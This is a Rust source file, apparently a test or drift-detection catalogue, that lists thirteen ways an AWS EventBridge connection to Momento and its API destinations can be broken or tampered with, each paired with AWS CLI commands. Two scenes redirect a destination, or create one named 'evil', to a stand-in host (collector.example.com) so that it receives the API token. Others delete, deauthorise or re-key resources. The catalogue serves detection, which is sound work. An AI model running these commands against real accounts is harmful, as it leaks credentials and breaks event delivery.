//! The API destinations and the connection.

use super::{Broken, broken};

const DESTINATIONS: [&str; 4] = [
    "connection",
    "destination CacheSetDestination",
    "destination CacheDeleteDestination",
    "destination TopicPublishDestination",
];

pub(super) const SCENES: [Broken; 13] = [
    broken(
        "A destination calls somebody else",
        "Whoever is there receives the token with the next event. The token is changed after the destination was \
         changed back, never before.",
        &[
            "aws events update-api-destination --name {CacheSetDestination} --invocation-endpoint https://collector.example.com/cache/*",
        ],
        &["destination CacheSetDestination"],
    ),
    broken(
        "A destination calls another path",
        "The host is Momento's, and every event is refused there.",
        &[
            "aws events update-api-destination --name {CacheSetDestination} --invocation-endpoint https://api.cache.cell-us-east-1-1.prod.a.momentohq.com/caches/*",
        ],
        &["destination CacheSetDestination"],
    ),
    broken(
        "A destination calls with another method",
        "A set becomes a deletion.",
        &["aws events update-api-destination --name {CacheSetDestination} --http-method DELETE"],
        &["destination CacheSetDestination"],
    ),
    broken(
        "A destination calls too seldom",
        "One call a second: what waits too long is not delivered.",
        &[
            "aws events update-api-destination --name {CacheSetDestination} --invocation-rate-limit-per-second 1",
        ],
        &["destination CacheSetDestination"],
    ),
    broken(
        "The connection is deauthorised",
        "No event is delivered; each goes to the dead-letter queue.",
        &["aws events deauthorize-connection --name {MomentoConnection}"],
        &DESTINATIONS,
    ),
    broken(
        "The connection sends the token in another header",
        "Momento reads one header and gets no token. The state is AUTHORIZED all the same.",
        &[
            r#"aws events update-connection --name {MomentoConnection} --authorization-type API_KEY --auth-parameters '{"ApiKeyAuthParameters":{"ApiKeyName":"X-Api-Key","ApiKeyValue":"a-key"}}'"#,
        ],
        &["connection"],
    ),
    broken(
        "The connection authorises in another way",
        "A user and a password, which Momento does not know.",
        &[
            r#"aws events update-connection --name {MomentoConnection} --authorization-type BASIC --auth-parameters '{"BasicAuthParameters":{"Username":"me","Password":"x"}}'"#,
        ],
        &["connection"],
    ),
    broken(
        "The connection adds a parameter to every call",
        "The connection's parameters go over those of the rules: every event writes the same key. CloudFormation's \
         drift detection cannot see them.",
        &[
            r#"aws events update-connection --name {MomentoConnection} --authorization-type API_KEY --auth-parameters '{"ApiKeyAuthParameters":{"ApiKeyName":"Authorization"},"InvocationHttpParameters":{"QueryStringParameters":[{"Key":"key","Value":"mine","IsValueSecret":false}]}}'"#,
        ],
        &["connection"],
    ),
    broken(
        "Somebody gave the connection another token",
        "Nobody can read what a connection holds, not even CloudFormation; but it says when it was changed.",
        &[
            "# ten minutes later",
            r#"aws events update-connection --name {MomentoConnection} --authorization-type API_KEY --auth-parameters '{"ApiKeyAuthParameters":{"ApiKeyName":"Authorization","ApiKeyValue":"another-key"}}'"#,
        ],
        &["connection"],
    ),
    broken(
        "A destination is deleted and made again",
        "It has its name and another ARN: rules and role name the old one, and no event is delivered.",
        &[
            "aws events delete-api-destination --name {CacheSetDestination}",
            "aws events create-api-destination --name {CacheSetDestination} --connection-arn {ConnectionArn} --invocation-endpoint https://api.cache.cell-us-east-1-1.prod.a.momentohq.com/cache/* --http-method PUT --invocation-rate-limit-per-second 100",
        ],
        &["destination CacheSetDestination"],
    ),
    broken(
        "A destination is gone",
        "No event of its rules is delivered.",
        &["aws events delete-api-destination --name {CacheSetDestination}"],
        &["destination CacheSetDestination"],
    ),
    broken(
        "The connection is deleted and made again",
        "It has its name and the token of whoever made it.",
        &[
            "aws events delete-connection --name {MomentoConnection}",
            r#"aws events create-connection --name {MomentoConnection} --authorization-type API_KEY --auth-parameters '{"ApiKeyAuthParameters":{"ApiKeyName":"Authorization","ApiKeyValue":"another-key"}}'"#,
        ],
        &DESTINATIONS,
    ),
    broken(
        "Somebody's destination uses the connection",
        "It is sent the token with every event of a rule of theirs. The token is changed once it is gone.",
        &[
            "aws events create-api-destination --name evil --connection-arn {ConnectionArn} --invocation-endpoint https://collector.example.com/* --http-method POST",
        ],
        &["connection"],
    ),
];
